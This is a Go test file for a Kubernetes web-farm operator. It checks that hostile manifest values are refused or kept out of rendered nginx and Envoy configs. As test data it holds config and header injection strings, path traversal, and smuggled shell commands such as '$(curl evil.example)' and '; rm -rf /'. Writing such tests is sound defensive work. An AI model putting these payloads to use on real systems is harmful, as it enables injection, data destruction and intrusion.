package hostile_test

import (
	"context"
	"fmt"
	"maps"
	"math"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	bandwidthv3 "github.com/envoyproxy/go-control-plane/envoy/extensions/filters/http/bandwidth_limit/v3"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"sigs.k8s.io/controller-runtime/pkg/client"

	v1 "webfarm.dev/operator/api/v1alpha1"
	"webfarm.dev/operator/internal/vocabulary"
)

// hostileCase is one manifest (with the objects it needs applied first) and
// what must become of it.
type hostileCase struct {
	name string
	// manifests are applied in order; every one but the last must be accepted.
	manifests []string
	// refused: the API server refuses the last manifest with an error that
	// contains each fragment (the field path and the rule's message).
	refused []string
	// reason is the status reason of a refusal; empty means Invalid (HTTP 422).
	reason metav1.StatusReason
	// modelErr: the API server accepts the last manifest and the model
	// refuses its object with an error that contains each fragment (the
	// controllers report it in the Ready condition, reason InvalidSpec).
	modelErr []string
	// modelMay: the model may refuse the last manifest's object with an
	// error containing each fragment; if it accepts it, it must render safely.
	modelMay []string
	// applyErr: the API server refuses a rendered child object of the
	// accepted manifest with an error containing each fragment (the
	// controller reports it as ApplyFailed); any other refusal fails.
	applyErr []string
	// absent are strings of the manifests that must appear in no rendered config.
	absent []string
	// check makes further assertions on what was rendered.
	check func(t *testing.T, ns string, r *rendered)
	// newFields: the manifests use fields the earlier CRDs
	// (testdata/earlier-crds) do not have, so they are not stored under them.
	newFields bool
}

// Manifests in flow style: a hostile string goes in as a double-quoted YAML
// scalar (q), with its control characters escaped.

func manifest(kind, name, spec string) string {
	m := "apiVersion: webfarm.dev/v1alpha1\nkind: " + kind + "\nmetadata: {name: " + q(name) + "}\n"
	if spec != "" {
		m += "spec: " + spec + "\n"
	}
	return m
}

func farm(spec string) string { return manifest("WebFarm", "farm", spec) }

// appVolumes is a pool named web whose app mounts the given volumes (flow style).
func appVolumes(volumes string) string {
	return pool(`{app: {image: registry.example.com/shop:2.1, port: 3000, volumes: [` + volumes + `]}}`)
}
func pool(spec string) string            { return manifest("AppPool", "web", spec) }
func poolNamed(name, spec string) string { return manifest("AppPool", name, spec) }
func cachePolicy(spec string) string     { return manifest("CachePolicy", "cache", spec) }
func withPurge(m, token string) string {
	return strings.Replace(m, "metadata: {", "metadata: {annotations: {webfarm.dev/purge: "+q(token)+"}, ", 1)
}
func farmWithHosts(hosts ...string) string {
	return farm(`{sites: [{name: www, hosts: [` + qs(hosts) + `], routes: [{appPool: web}]}]}`)
}

// A minimal AppPool named web that the farms route to.
var webPool = pool(`{content: {configMap: {name: site}}}`)

// siteContent is a farm whose one route to the web pool serves the content
// given (flow style).
func siteContent(content string) string {
	return farm(`{sites: [{name: www, hosts: [www.example.com], routes: [{appPool: web, content: ` + content + `}]}]}`)
}

// repeated is n items, made by format from their index, separated by commas.
func repeated(n int, format string) string {
	items := make([]string, n)
	for i := range items {
		items[i] = fmt.Sprintf(format, i)
	}
	return strings.Join(items, ", ")
}

// longDirectory is a content directory of 253 characters.
var longDirectory = strings.Repeat("d/", 126) + "e"

// farmWithPrefixes routes prefixes of one site to pools.
func farmWithPrefixes(prefixes ...string) string {
	var routes []string
	for i, p := range prefixes {
		routes = append(routes, fmt.Sprintf(`{pathPrefix: %s, appPool: web%d}`, q(p), i))
	}
	return farm(`{sites: [{name: www, hosts: [www.example.com], routes: [` + strings.Join(routes, ", ") + `]}]}`)
}

func qs(ss []string) string {
	out := make([]string, len(ss))
	for i, s := range ss {
		out[i] = q(s)
	}
	return strings.Join(out, ", ")
}

// bigFarm has sites sites of hosts host names and routes routes each;
// repeat > 0 makes the sites from the repeat-th on repeat the host names of
// the first site.
func bigFarm(sites, hosts, routes, repeat int) string {
	var b strings.Builder
	b.WriteString("{sites: [")
	for s := range sites {
		if s > 0 {
			b.WriteString(", ")
		}
		fmt.Fprintf(&b, "{name: s%d, hosts: [", s)
		for h := range hosts {
			if h > 0 {
				b.WriteString(", ")
			}
			if repeat > 0 && s >= repeat {
				fmt.Fprintf(&b, "h%d.s0.example", h)
			} else {
				fmt.Fprintf(&b, "h%d.s%d.example", h, s)
			}
		}
		b.WriteString("], routes: [")
		for r := range routes {
			if r > 0 {
				b.WriteString(", ")
			}
			fmt.Fprintf(&b, "{pathPrefix: /r%d, appPool: web}", r)
		}
		b.WriteString("]}")
	}
	b.WriteString("]}")
	return farm(b.String())
}

// invalid is the start of the API server's message for a refused value.
func invalid(path string, value any) string {
	if s, ok := value.(string); ok {
		return fmt.Sprintf("%s: Invalid value: %q", path, s)
	}
	return fmt.Sprintf("%s: Invalid value: %v", path, value)
}

const (
	hostPattern = "should match '^(\\*\\.)?[a-z0-9]"
	// The patterns of a route's content (api/v1alpha1's ContentDirectory,
	// DocumentName and ContentPath).
	contentPattern  = "should match '^[A-Za-z0-9._~-]*[A-Za-z0-9_~-][A-Za-z0-9._~-]*(/"
	documentPattern = "should match '^[A-Za-z0-9._~-]*[A-Za-z0-9_~-][A-Za-z0-9._~-]*$'"
	pagePattern     = "should match '^(/[A-Za-z0-9._~-]*"
	pathPattern     = "should match '^/(([A-Za-z0-9_~-]"
	namePattern     = "should match '^[a-z0-9]([-a-z0-9]*[a-z0-9])?$'"
	durPattern      = "should match '^([0-9]{1,6}h)?"
)

var (
	label63   = strings.Repeat("a", 63)
	longHost  = strings.Join([]string{label63, strings.Repeat("b", 63), strings.Repeat("c", 63), strings.Repeat("d", 61)}, ".")
	longPath  = "/" + strings.Repeat("..x/.y_~z-0.9/", 18) + strings.Repeat("a", 3)
	longName  = strings.Repeat("l", 50)
	longToken = strings.Repeat("p", 300<<10)
	// injection is nginx syntax that would add a server if it reached a config unescaped.
	injection = "x;\n}\nserver { listen 80; location / { return 200 \"pwned\"; } }\n#"
	// envoyInjection would add a Lua filter if it reached the Envoy config as JSON.
	envoyInjection = `"},{"name":"envoy.filters.http.lua","typed_config":{"@type":"type.googleapis.com/envoy.extensions.filters.http.lua.v3.Lua"}}`
)

func hostileCases() []hostileCase {
	return append([]hostileCase{
		// Host names.
		{
			name:      "a host name with a newline and an nginx directive is refused",
			manifests: []string{farmWithHosts("www.example.com\ninclude /etc/passwd")},
			refused:   []string{invalid("spec.sites[0].hosts[0]", "www.example.com\ninclude /etc/passwd"), hostPattern},
		},
		{
			name:      "a host name with a carriage return and a header line is refused",
			manifests: []string{farmWithHosts("www.example.com\r\nX-Injected: 1")},
			refused:   []string{invalid("spec.sites[0].hosts[0]", "www.example.com\r\nX-Injected: 1"), hostPattern},
		},
		{
			name:      "a host name with a NUL byte is refused",
			manifests: []string{farmWithHosts("www.example.com\x00.evil")},
			refused:   []string{invalid("spec.sites[0].hosts[0]", "www.example.com\x00.evil"), hostPattern},
		},
		{
			name:      "a host name with a tab is refused",
			manifests: []string{farmWithHosts("www.example.com\tevil.example")},
			refused:   []string{invalid("spec.sites[0].hosts[0]", "www.example.com\tevil.example"), hostPattern},
		},
		{
			name:      "a host name with Unicode line and paragraph separators is refused",
			manifests: []string{farmWithHosts("www.example.com\u2028evil\u2029example")},
			refused:   []string{"spec.sites[0].hosts[0]: Invalid value", hostPattern},
		},
		{
			name:      "a host name with nginx syntax (; { } $) is refused",
			manifests: []string{farmWithHosts("www.example.com;}server{server_name $host;")},
			refused:   []string{invalid("spec.sites[0].hosts[0]", "www.example.com;}server{server_name $host;"), hostPattern},
		},
		{
			name:      "a host name with quotes, a hash and a backslash is refused",
			manifests: []string{farmWithHosts(`www.example.com"'#\`)},
			refused:   []string{invalid("spec.sites[0].hosts[0]", `www.example.com"'#\`), hostPattern},
		},
		{
			name:      "an nginx regular-expression server name is refused",
			manifests: []string{farmWithHosts(`~^(?<user>.+)\.example\.com$`)},
			refused:   []string{"spec.sites[0].hosts[0]: Invalid value", hostPattern},
		},
		{
			name:      "a host name with a port is refused",
			manifests: []string{farmWithHosts("www.example.com:8080")},
			refused:   []string{invalid("spec.sites[0].hosts[0]", "www.example.com:8080"), hostPattern},
		},
		{
			name:      "a host name longer than 253 characters is refused",
			manifests: []string{farmWithHosts(longHost + ".ee")},
			refused:   []string{"spec.sites[0].hosts[0]: Too long: may not be more than 253"},
		},
		{
			name:      "a host label longer than 63 characters is refused",
			manifests: []string{farmWithHosts(label63 + "a.example.com")},
			refused:   []string{invalid("spec.sites[0].hosts[0]", label63+"a.example.com"), hostPattern},
		},
		{
			name:      "a 253-character host name of 63-character labels is rendered",
			manifests: []string{webPool, farmWithHosts(longHost)},
			check: func(t *testing.T, _ string, r *rendered) {
				checkDomains(t, r, "farm", []string{longHost})
			},
		},
		{
			name:      "host names that look like IP addresses and a wildcard over a numeric label are rendered",
			manifests: []string{webPool, farmWithHosts("127.0.0.1", "*.0", "0", "xn--bcher-kva.example")},
			check: func(t *testing.T, _ string, r *rendered) {
				checkDomains(t, r, "farm", []string{"*.0", "0", "127.0.0.1", "xn--bcher-kva.example"})
			},
		},
		{
			name: "the same host name in two sites is refused",
			manifests: []string{farm(`{sites: [{name: www, hosts: [www.example.com], routes: [{appPool: web}]}, ` +
				`{name: shop, hosts: [shop.example.com, www.example.com], routes: [{appPool: shop}]}]}`)},
			refused: []string{"spec: Invalid value", "a host name may belong to only one site"},
		},
		{
			name:      "a farm with 5000 host names is rendered",
			manifests: []string{webPool, bigFarm(500, 10, 1, 0)},
			check: func(t *testing.T, _ string, r *rendered) {
				if n := r.farms["farm"].HostCount(); n != 5000 {
					t.Errorf("the farm has %d host names, want 5000", n)
				}
			},
		},
		{
			name:      "at 512 host names the same host name in two sites is still refused by the API server",
			manifests: []string{bigFarm(8, 64, 1, 7)},
			refused:   []string{"spec: Invalid value", "a host name may belong to only one site"},
		},
		{
			name:      "the same host name in two sites of a farm with more than 512 host names is reported by the model",
			manifests: []string{webPool, bigFarm(6, 100, 1, 5)},
			modelErr:  []string{`host name "h0.s0.example" belongs to sites "s0" and "s5"`, `host name "h99.s0.example" belongs to sites "s0" and "s5"`},
		},
		{
			name:      "a thousand-host farm whose ten sites repeat the same host names is reported in its status",
			manifests: []string{webPool, bigFarm(10, 100, 1, 1)},
			modelErr:  []string{`host name "h0.s0.example" belongs to sites "s0" and "s1"`},
		},
		{
			name:      "a site with 101 host names is refused",
			manifests: []string{bigFarm(1, 101, 1, 0)},
			refused:   []string{"spec.sites[0].hosts: Too many: 101: must have at most 100 items"},
		},
		{
			name:      "a farm with 501 sites is refused",
			manifests: []string{bigFarm(501, 1, 1, 0)},
			refused:   []string{"spec.sites: Too many: 501: must have at most 500 items"},
		},

		// Path prefixes.
		{
			name:      "a path prefix with a newline is refused",
			manifests: []string{farmWithPrefixes("/shop\nreturn 200")},
			refused:   []string{invalid("spec.sites[0].routes[0].pathPrefix", "/shop\nreturn 200"), pathPattern},
		},
		{
			name:      "a path prefix with nginx syntax (; { } and a space) is refused",
			manifests: []string{farmWithPrefixes("/shop;} location / { return 200 x;")},
			refused:   []string{invalid("spec.sites[0].routes[0].pathPrefix", "/shop;} location / { return 200 x;"), pathPattern},
		},
		{
			name:      "a path prefix with an nginx variable is refused",
			manifests: []string{farmWithPrefixes("/$request_uri")},
			refused:   []string{invalid("spec.sites[0].routes[0].pathPrefix", "/$request_uri"), pathPattern},
		},
		{
			name:      "a path prefix with a query string or a fragment is refused",
			manifests: []string{farmWithPrefixes("/shop?admin=1#top")},
			refused:   []string{invalid("spec.sites[0].routes[0].pathPrefix", "/shop?admin=1#top"), pathPattern},
		},
		{
			name:      "a path prefix with a dot-dot segment is refused",
			manifests: []string{farmWithPrefixes("/shop/../admin")},
			refused:   []string{invalid("spec.sites[0].routes[0].pathPrefix", "/shop/../admin"), pathPattern},
		},
		{
			name:      "a path prefix with a double slash is refused",
			manifests: []string{farmWithPrefixes("/shop//admin")},
			refused:   []string{invalid("spec.sites[0].routes[0].pathPrefix", "/shop//admin"), pathPattern},
		},
		{
			name:      "a path prefix with a backslash or quotes is refused",
			manifests: []string{farmWithPrefixes(`/shop\"admin'`)},
			refused:   []string{invalid("spec.sites[0].routes[0].pathPrefix", `/shop\"admin'`), pathPattern},
		},
		{
			name:      "a percent-encoded path prefix is refused",
			manifests: []string{farmWithPrefixes("/%2e%2e/admin")},
			refused:   []string{invalid("spec.sites[0].routes[0].pathPrefix", "/%2e%2e/admin"), pathPattern},
		},
		{
			name:      "a path prefix with a NUL byte or a Unicode line separator is refused",
			manifests: []string{farmWithPrefixes("/shop\x00", "/cart\u2028")},
			refused:   []string{"spec.sites[0].routes[0].pathPrefix: Invalid value", "spec.sites[0].routes[1].pathPrefix: Invalid value", pathPattern},
		},
		{
			name:      "a path prefix longer than 256 characters is refused",
			manifests: []string{farmWithPrefixes(longPath + "xx")},
			refused:   []string{"spec.sites[0].routes[0].pathPrefix: Too long: may not be more than 256"},
		},
		{
			name:      "a 256-character path prefix of dots, tildes, underscores and dot-led segments is matched literally",
			manifests: []string{poolNamed("web0", `{content: {configMap: {name: site}}}`), farmWithPrefixes(longPath)},
			check: func(t *testing.T, _ string, r *rendered) {
				if len(longPath) != 256 {
					t.Fatalf("the test's prefix has %d characters, want 256", len(longPath))
				}
				checkPrefixRewrite(t, r, "farm", longPath)
			},
		},
		{
			name:      "the same path prefix twice in a site is refused",
			manifests: []string{farmWithPrefixes("/shop", "/shop")},
			refused:   []string{`spec.sites[0].routes[1]: Duplicate value: {"pathPrefix":"/shop"}`},
		},
		{
			name:      "two routes without a path prefix (both default to /) are refused",
			manifests: []string{farm(`{sites: [{name: www, hosts: [www.example.com], routes: [{appPool: web}, {appPool: shop}]}]}`)},
			refused:   []string{`spec.sites[0].routes[1]: Duplicate value: {"pathPrefix":"/"}`},
		},
		{
			name: "a path prefix with and without a trailing slash in one site does not silently shadow a route",
			manifests: []string{poolNamed("web0", `{content: {configMap: {name: site}}}`), poolNamed("web1", `{content: {configMap: {name: site}}}`),
				farmWithPrefixes("/api", "/api/")},
			modelMay: []string{`"/api"`},
		},
		{
			name:      "a site with 65 routes is refused",
			manifests: []string{bigFarm(1, 1, 65, 0)},
			refused:   []string{"spec.sites[0].routes: Too many: 65: must have at most 64 items"},
		},
		{
			name:      "a farm with 100 sites of 64 routes each is rendered",
			manifests: []string{webPool, bigFarm(100, 1, 64, 0)},
			check: func(t *testing.T, _ string, r *rendered) {
				n := 0
				for _, vh := range r.routing["farm"].Routes[0].VirtualHosts {
					n += len(vh.Routes)
				}
				if n != 100*64*3 {
					t.Errorf("the farm has %d Envoy routes, want %d (a WebSocket upgrade, a GET/HEAD and an other-methods route per route)", n, 100*64*3)
				}
			},
		},

		// A route's share of its pool's content: values that reach request
		// headers the workers follow.
		{
			name:      "a content directory that climbs out of the pool's content is refused",
			manifests: []string{siteContent(`{directory: "sites/../../etc"}`)},
			refused:   []string{invalid("spec.sites[0].routes[0].content.directory", "sites/../../etc"), contentPattern},
			newFields: true,
		},
		{
			name:      "a content directory with a header line is refused",
			manifests: []string{siteContent(`{directory: ` + q("shop\r\nX-Webfarm-Site-Directory: ..") + `}`)},
			refused:   []string{"spec.sites[0].routes[0].content.directory: Invalid value", contentPattern},
			newFields: true,
		},
		{
			name:      "a content directory with Envoy's formatter syntax is refused",
			manifests: []string{siteContent(`{directory: "%REQ(x-evil)%"}`)},
			refused:   []string{invalid("spec.sites[0].routes[0].content.directory", "%REQ(x-evil)%"), contentPattern},
			newFields: true,
		},
		{
			name:      "a content directory with nginx syntax is refused",
			manifests: []string{siteContent(`{directory: ` + q(injection) + `}`)},
			refused:   []string{"spec.sites[0].routes[0].content.directory: Invalid value", contentPattern},
			newFields: true,
		},
		{
			name:      "a default document with an nginx variable is refused",
			manifests: []string{siteContent(`{defaultDocuments: ["$document_root"]}`)},
			refused:   []string{invalid("spec.sites[0].routes[0].content.defaultDocuments[0]", "$document_root"), documentPattern},
			newFields: true,
		},
		{
			name:      "an error page that is a named location is refused",
			manifests: []string{siteContent(`{errorPages: [{statusCode: 404, path: "@app_unreachable"}]}`)},
			refused:   []string{invalid("spec.sites[0].routes[0].content.errorPages[0].path", "@app_unreachable"), pagePattern},
			newFields: true,
		},
		{
			name:      "an error page that redirects elsewhere is refused",
			manifests: []string{siteContent(`{errorPages: [{statusCode: 404, path: "//evil.example/x"}]}`)},
			refused:   []string{invalid("spec.sites[0].routes[0].content.errorPages[0].path", "//evil.example/x"), pagePattern},
			newFields: true,
		},
		{
			name:      "a pool's default document with nginx syntax is refused",
			manifests: []string{pool(`{content: {configMap: {name: site}, defaultDocuments: [` + q(injection) + `]}}`)},
			refused:   []string{"spec.content.defaultDocuments[0]: Invalid value", documentPattern},
			newFields: true,
		},
		{
			name: "a route's content at its limits (a 253-character directory, 8 documents, 7 error pages) is rendered and sent as headers",
			manifests: []string{webPool, siteContent(`{directory: ` + q(longDirectory) + `, defaultDocuments: [` + repeated(8, "d%d.html") + `], errorPages: [` +
				`{statusCode: 403, path: /e/403.html}, {statusCode: 404, path: /e/404.html}, {statusCode: 405, path: /e/405.html}, {statusCode: 500, path: /e/500.html}, ` +
				`{statusCode: 502, path: /e/502.html}, {statusCode: 503, path: /e/503.html}, {statusCode: 504, path: /e/504.html}]}`)},
			check: func(t *testing.T, _ string, r *rendered) {
				found := false
				for _, vh := range r.routing["farm"].Routes[0].VirtualHosts {
					for _, route := range vh.Routes {
						for _, h := range route.RequestHeadersToAdd {
							found = found || h.Header.Key == vocabulary.SiteDirectoryHeader && h.Header.Value == longDirectory
						}
					}
				}
				if !found {
					t.Errorf("no route sends the directory %q", longDirectory)
				}
			},
			newFields: true,
		},

		// Affinity cookie names and other names that become headers.
		{
			name:      "an affinity cookie name with cookie attributes is refused",
			manifests: []string{farm(`{sessionAffinity: {type: Cookie, cookie: {name: "S; Domain=evil.example; Path=/"}}, sites: [{name: www, hosts: [www.example.com], routes: [{appPool: web}]}]}`)},
			refused:   []string{invalid("spec.sessionAffinity.cookie.name", "S; Domain=evil.example; Path=/"), "should match '^[A-Za-z0-9._-]+$'"},
		},
		{
			name:      "an affinity cookie name with a CRLF and a header line is refused",
			manifests: []string{farm(`{sessionAffinity: {type: Cookie, cookie: {name: ` + q("S\r\nSet-Cookie: admin=1") + `}}, sites: [{name: www, hosts: [www.example.com], routes: [{appPool: web}]}]}`)},
			refused:   []string{invalid("spec.sessionAffinity.cookie.name", "S\r\nSet-Cookie: admin=1"), "should match '^[A-Za-z0-9._-]+$'"},
		},
		{
			name:      "an affinity cookie name with an equals sign, quotes or a space is refused",
			manifests: []string{farm(`{sessionAffinity: {type: Cookie, cookie: {name: ` + q(`a="b c"`) + `}}, sites: [{name: www, hosts: [www.example.com], routes: [{appPool: web}]}]}`)},
			refused:   []string{invalid("spec.sessionAffinity.cookie.name", `a="b c"`), "should match '^[A-Za-z0-9._-]+$'"},
		},
		{
			name:      "an affinity cookie name longer than 64 characters is refused",
			manifests: []string{farm(`{sessionAffinity: {type: Cookie, cookie: {name: ` + strings.Repeat("C", 65) + `}}, sites: [{name: www, hosts: [www.example.com], routes: [{appPool: web}]}]}`)},
			refused:   []string{"spec.sessionAffinity.cookie.name: Too long: may not be more than 64"},
		},
		{
			name:      "a 64-character affinity cookie name of dots, dashes and underscores is rendered as written",
			manifests: []string{webPool, farm(`{sessionAffinity: {type: Cookie, cookie: {name: ` + strings.Repeat("._-_", 16) + `, ttl: 8760h}}, sites: [{name: www, hosts: [www.example.com], routes: [{appPool: web}]}]}`)},
			check: func(t *testing.T, _ string, r *rendered) {
				if got := r.farms["farm"].Affinity.CookieName; got != strings.Repeat("._-_", 16) {
					t.Errorf("cookie name %q", got)
				}
				if !strings.Contains(string(r.bootstrap["farm"]), `"name":"`+strings.Repeat("._-_", 16)+`.web"`) {
					t.Errorf("the Envoy config does not name the pool's cookie as written, with the pool's name")
				}
			},
		},
		{
			name:      "cookie settings with client IP affinity are refused",
			manifests: []string{farm(`{sessionAffinity: {type: ClientIP, cookie: {name: S}}, sites: [{name: www, hosts: [www.example.com], routes: [{appPool: web}]}]}`)},
			refused:   []string{"spec.sessionAffinity: Invalid value", "cookie settings need type Cookie"},
		},
		{
			name:      "an affinity type naming an Envoy filter is refused",
			manifests: []string{farm(`{sessionAffinity: {type: envoy.filters.http.lua}, sites: [{name: www, hosts: [www.example.com], routes: [{appPool: web}]}]}`)},
			refused:   []string{`spec.sessionAffinity.type: Unsupported value: "envoy.filters.http.lua"`, `supported values: "None", "ClientIP", "ClassC", "Cookie"`},
		},
		{
			name:      "an affinity cookie TTL over a year is refused",
			manifests: []string{farm(`{sessionAffinity: {type: Cookie, cookie: {ttl: 8761h}}, sites: [{name: www, hosts: [www.example.com], routes: [{appPool: web}]}]}`)},
			refused:   []string{invalid("spec.sessionAffinity.cookie.ttl", "8761h"), "cookie ttl must be at most 8760h (one year)"},
		},
		{
			name:      "an environment variable name that is a header line is refused",
			manifests: []string{pool(`{app: {image: registry.example.com/shop:2.1, port: 3000, env: [{name: ` + q("X-Forwarded-For: 1.2.3.4\nA=B") + `, value: x}]}}`)},
			refused:   []string{invalid("spec.app.env[0].name", "X-Forwarded-For: 1.2.3.4\nA=B"), "should match '^[A-Za-z_][A-Za-z0-9_]*$'"},
		},

		// Content references and images.
		{
			name:      "a ConfigMap in another namespace is refused",
			manifests: []string{pool(`{content: {configMap: {name: kube-system/admin-conf}}}`)},
			refused:   []string{invalid("spec.content.configMap.name", "kube-system/admin-conf"), namePattern},
		},
		{
			name:      "a ConfigMap name with a newline or a path is refused",
			manifests: []string{pool(`{content: {configMap: {name: ` + q("../site\nx") + `}}}`)},
			refused:   []string{invalid("spec.content.configMap.name", "../site\nx"), namePattern},
		},
		{
			name:      "a content image reference with a newline and YAML is refused",
			manifests: []string{pool(`{content: {image: {reference: ` + q("nginx:1.29\ncommand: [sh, -c, id]") + `}}}`)},
			refused:   []string{invalid("spec.content.image.reference", "nginx:1.29\ncommand: [sh, -c, id]"), "should match '^[A-Za-z0-9][A-Za-z0-9._/:@-]*$'"},
		},
		{
			name:      "an app image reference that starts like a command-line option is refused",
			manifests: []string{pool(`{app: {image: --privileged, port: 3000}}`)},
			refused:   []string{invalid("spec.app.image", "--privileged"), "should match '^[A-Za-z0-9][A-Za-z0-9._/:@-]*$'"},
		},
		{
			name:      "an app image reference with shell syntax is refused",
			manifests: []string{pool(`{app: {image: ` + q("registry.example.com/shop:2.1;$(curl evil.example)`id`") + `, port: 3000}}`)},
			refused:   []string{invalid("spec.app.image", "registry.example.com/shop:2.1;$(curl evil.example)`id`"), "should match '^[A-Za-z0-9][A-Za-z0-9._/:@-]*$'"},
		},
		{
			name:      "a content image path with a shell command is refused",
			manifests: []string{pool(`{content: {image: {reference: registry.example.com/site:1.4, path: "/content; rm -rf /"}}}`)},
			refused:   []string{invalid("spec.content.image.path", "/content; rm -rf /"), "should match '^/[A-Za-z0-9._/-]*$'"},
		},
		{
			name:      "a relative content image path or one with a newline is refused",
			manifests: []string{pool(`{content: {image: {reference: registry.example.com/site:1.4, path: ` + q("content\n/etc") + `}}}`)},
			refused:   []string{invalid("spec.content.image.path", "content\n/etc"), "should match '^/[A-Za-z0-9._/-]*$'"},
		},
		{
			name:      "a content image path climbing out with dot-dot is copied as one argument, without a shell",
			manifests: []string{pool(`{content: {image: {reference: registry.example.com/site:1.4, path: /../../etc}}}`)},
			check: func(t *testing.T, _ string, r *rendered) {
				spec := r.poolObjs["web"].Deployment.Spec.Template.Spec
				if len(spec.InitContainers) != 1 {
					t.Fatalf("want one init container, got %d", len(spec.InitContainers))
				}
				want := []string{"cp", "-R", "/../../etc/.", "/srv/www/"}
				if got := spec.InitContainers[0].Command; !slices.Equal(got, want) {
					t.Errorf("the init container runs %q, want %q", got, want)
				}
			},
		},
		{
			name:      "a PersistentVolumeClaim in another namespace is refused",
			manifests: []string{pool(`{content: {persistentVolumeClaim: {claimName: other/claim}}}`)},
			refused:   []string{invalid("spec.content.persistentVolumeClaim.claimName", "other/claim"), "should match '^[a-z0-9]([-a-z0-9.]*[a-z0-9])?$'"},
		},
		{
			name:      "a PersistentVolumeClaim name with a newline is refused",
			manifests: []string{pool(`{content: {persistentVolumeClaim: {claimName: ` + q("claim\nreadOnly: false") + `}}}`)},
			refused:   []string{invalid("spec.content.persistentVolumeClaim.claimName", "claim\nreadOnly: false"), "should match '^[a-z0-9]([-a-z0-9.]*[a-z0-9])?$'"},
		},
		{
			name:      "content with two sources is refused",
			manifests: []string{pool(`{content: {configMap: {name: site}, persistentVolumeClaim: {claimName: site}}}`)},
			refused:   []string{"spec.content: Invalid value", "content needs exactly one of configMap, image or persistentVolumeClaim"},
		},
		{
			name:      "a pool without content or an app is refused",
			manifests: []string{pool(`{replicas: 1}`)},
			refused:   []string{"spec: Invalid value", "an AppPool needs content, an app, or both"},
		},
		{
			name: "references to a missing ConfigMap, claim, pool and cache policy are rendered without them",
			manifests: []string{
				poolNamed("web", `{content: {configMap: {name: no-such-configmap}}}`),
				poolNamed("docs", `{content: {persistentVolumeClaim: {claimName: no.such..claim}}}`),
				farm(`{sites: [{name: www, hosts: [www.example.com], routes: [{appPool: web}, {pathPrefix: /docs, appPool: docs}, {pathPrefix: /gone, appPool: no-such-pool, cachePolicy: no-such-cache}]}]}`),
			},
			check: func(t *testing.T, _ string, r *rendered) {
				routing := r.routing["farm"]
				for _, la := range routing.Endpoints {
					if (la.ClusterName == "pool/no-such-pool" || la.ClusterName == "cache/no-such-cache") && len(la.Endpoints) > 0 {
						t.Errorf("cluster %s of a missing object has endpoints", la.ClusterName)
					}
				}
			},
		},
		{
			name:      "a route to a pool in another namespace is refused",
			manifests: []string{farm(`{sites: [{name: www, hosts: [www.example.com], routes: [{appPool: other/web}]}]}`)},
			refused:   []string{invalid("spec.sites[0].routes[0].appPool", "other/web"), namePattern},
		},
		{
			name:      "a route through a cache policy in another namespace is refused",
			manifests: []string{farm(`{sites: [{name: www, hosts: [www.example.com], routes: [{appPool: web, cachePolicy: other/cache}]}]}`)},
			refused:   []string{invalid("spec.sites[0].routes[0].cachePolicy", "other/cache"), namePattern},
		},
		{
			name:      "a route to a pool name with a newline is refused",
			manifests: []string{farm(`{sites: [{name: www, hosts: [www.example.com], routes: [{appPool: ` + q("web\n  server evil:80") + `}]}]}`)},
			refused:   []string{invalid("spec.sites[0].routes[0].appPool", "web\n  server evil:80"), namePattern},
		},
		{
			name: "environment values and arguments with newlines, NULs, separators and config syntax stay out of every config",
			manifests: []string{
				pool(`{content: {configMap: {name: site}}, app: {image: registry.example.com/shop:2.1, port: 3000, ` +
					`args: [` + qs([]string{injection, "--flag=$(POD_NAME)", "a\x00b", "\u2028\u2029", envoyInjection}) + `], ` +
					`env: [{name: A, value: ` + q(injection) + `}, {name: B, value: ` + q("a\r\nb\x00c\u2028") + `}, {name: C, value: ` + q(envoyInjection) + `}, {name: D, value: ` + q(strings.Repeat("v", 4096)) + `}]}}`),
				farm(`{sites: [{name: www, hosts: [www.example.com], routes: [{appPool: web}]}]}`),
			},
			absent: []string{injection, "pwned", "a\x00b", "\u2028", envoyInjection, "envoy.filters.http.lua", strings.Repeat("v", 4096)},
			check: func(t *testing.T, _ string, r *rendered) {
				app := r.poolObjs["web"].Deployment.Spec.Template.Spec.Containers[1]
				if len(app.Env) != 4 || *app.Env[0].Value != injection {
					t.Errorf("the app container's environment is not the manifest's: %v", app.Env)
				}
			},
		},
		{
			name:      "an environment value longer than 4096 characters is refused",
			manifests: []string{pool(`{app: {image: registry.example.com/shop:2.1, port: 3000, env: [{name: A, value: ` + strings.Repeat("v", 4097) + `}]}}`)},
			refused:   []string{"spec.app.env[0].value: Too long: may not be more than 4096"},
		},

		// App volumes.
		{
			name:      "a volume mount path with a newline and nginx syntax is refused",
			manifests: []string{appVolumes(`{name: db, mountPath: ` + q("/etc/db\n"+injection) + `, secret: {name: db}}`)},
			refused:   []string{"spec.app.volumes[0].mountPath", "mountPath may hold only letters, digits"},
		},
		{
			name:      "a volume mount path with a NUL byte or a Unicode line separator is refused",
			manifests: []string{appVolumes(`{name: a, mountPath: ` + q("/etc/db\x00") + `, secret: {name: db}}, {name: b, mountPath: ` + q("/etc/\u2028db") + `, secret: {name: db}}`)},
			refused:   []string{"spec.app.volumes[0].mountPath", "spec.app.volumes[1].mountPath", "mountPath may hold only letters, digits"},
		},
		{
			name:      "a volume mount path that climbs out with dot-dot segments is refused",
			manifests: []string{appVolumes(`{name: db, mountPath: /srv/../../var/run/secrets/kubernetes.io/serviceaccount, secret: {name: db}}`)},
			refused:   []string{"spec.app.volumes[0].mountPath", "mountPath may not have '.' or '..' segments"},
		},
		{
			name:      "a volume mounted over the root of the file system is refused",
			manifests: []string{appVolumes(`{name: db, mountPath: /, secret: {name: db}}`)},
			refused:   []string{invalid("spec.app.volumes[0].mountPath", "/"), "mountPath may not hold an empty segment or end with /"},
		},
		{
			name:      "a volume mount path of 257 characters is refused",
			manifests: []string{appVolumes(`{name: db, mountPath: /` + strings.Repeat("d", 256) + `, secret: {name: db}}`)},
			refused:   []string{"spec.app.volumes[0].mountPath: Too long: may not be more than 256"},
		},
		{
			name:      "a volume name with a newline and shell syntax is refused",
			manifests: []string{appVolumes(`{name: ` + q("db\n$(id)") + `, mountPath: /etc/db, secret: {name: db}}`)},
			refused:   []string{"spec.app.volumes[0].name", "a volume name must be a DNS label"},
		},
		{
			name:      "a Secret name with a slash, to reach another namespace, is refused",
			manifests: []string{appVolumes(`{name: db, mountPath: /etc/db, secret: {name: kube-system/bootstrap-token}}`)},
			refused:   []string{invalid("spec.app.volumes[0].secret.name", "kube-system/bootstrap-token")},
		},
		{
			name:      "a ConfigMap and a claim name with config syntax are refused",
